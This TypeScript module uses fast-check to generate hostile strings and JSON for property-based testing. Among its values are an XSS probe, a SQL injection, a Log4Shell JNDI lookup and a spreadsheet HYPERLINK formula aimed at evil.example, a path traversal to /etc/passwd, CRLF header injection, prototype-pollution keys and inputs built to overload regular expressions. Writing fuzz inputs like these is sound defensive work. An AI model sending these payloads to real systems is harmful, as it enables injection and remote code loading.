import fc from 'fast-check';

/** JSON, also with names that no object of ours may have. */
export type Json = null | boolean | number | string | readonly Json[] | { readonly [name: string]: Json };

/** Names that every object has by birth. */
const inborn = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', 'then', 'toJSON'];

/** Signs that end, begin, hide or run something somewhere. */
const signs = [
  '',
  ' ',
  '\u0000',
  '\ud83d',
  '\udc00a',
  '\u202e\u2066abc',
  '\ufeff',
  '\uffff',
  'a\r\nSet-Cookie: a=b',
  '<script>alert(1)</script>',
  '<at>Lyhörd</at>',
  '[länk](http://evil.example)',
  "'; DROP TABLE docs; --",
  '$\u007bjndi:ldap://evil.example/a}',
  '{{7*7}}',
  '%s%n%00',
  '../../../../etc/passwd',
  '=HYPERLINK("http://evil.example")',
  '"',
  '\\',
  '|',
  '*',
  '🧑‍🦽‍➡️',
  'שלום',
  'Z̷͓̈a̶l̵g̶o̷',
];

/** What almost is a number, a day, a case or an id. */
const almost = [
  '0',
  '-1',
  '1e999',
  '0x10',
  'NaN',
  'Infinity',
  '9007199254740993',
  '99999999999999999999',
  '2026-02-30',
  '2026-13-45',
  '0000-00-00',
  '-000001-01-01T00:00Z',
  '+275760-09-13T00:00:00Z',
  '9999-12-31',
  '2026-11-22T25:61',
  '2026-W54',
  '2026-000001',
  '0000-0000000000000',
  'ffffffffffffffffffffffffffffffff',
  '00000000-0000-4000-8000-000000000000',
];

/** Repeated, they make careless patterns take all day. */
const heavy = [
  'a',
  ' ',
  'å ',
  '1',
  '1-',
  '0 7',
  '@',
  'a@a.',
  '<',
  '<a ',
  '&#x',
  'Anna ',
  'inte ',
  'klockan ',
  '\n',
  '😀',
];
const longest = 60_000;

const huge = fc
  .tuple(fc.constantFrom(...heavy), fc.integer({ min: 1_000, max: longest }), fc.constantFrom('', '!', 'x', '\u0000'))
  .map(([part, length, end]) => part.repeat(Math.ceil(length / part.length)) + end);

export const hostileText = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...signs, ...inborn) },
  { weight: 4, arbitrary: fc.constantFrom(...almost) },
  { weight: 4, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: huge },
);

/** So deep that whoever goes down by calling itself may not come back. */
const deep = fc.tuple(fc.integer({ min: 10, max: 1_500 }), fc.boolean()).map(([levels, lists]) => {
  let value: Json = 1;
  for (let i = 0; i < levels; i += 1) value = lists ? [value] : { a: value };
  return value;
});

/** An object with names of any kind, `__proto__` as a name of its own like any other. */
const objects = (inner: fc.Arbitrary<Json>): fc.Arbitrary<Json> =>
  fc
    .array(fc.tuple(fc.oneof(fc.constantFrom(...inborn), hostileText), inner), { maxLength: 4 })
    .map((entries) => Object.fromEntries(entries));

const scalar: fc.Arbitrary<Json> = fc.oneof(
  { weight: 4, arbitrary: hostileText },
  fc.constantFrom<Json>(null, true, false, 0, -1, 1.5, 1e308, Number.MAX_SAFE_INTEGER + 1),
);

/** Anything that JSON can hold, the worse the likelier. */
export const hostileJson: fc.Arbitrary<Json> = fc.oneof(
  { weight: 8, arbitrary: scalar },
  { weight: 2, arbitrary: fc.array(scalar, { maxLength: 4 }) },
  { weight: 3, arbitrary: objects(scalar) },
  { weight: 1, arbitrary: fc.array(objects(scalar), { maxLength: 3 }) },
  { weight: 1, arbitrary: deep },
);
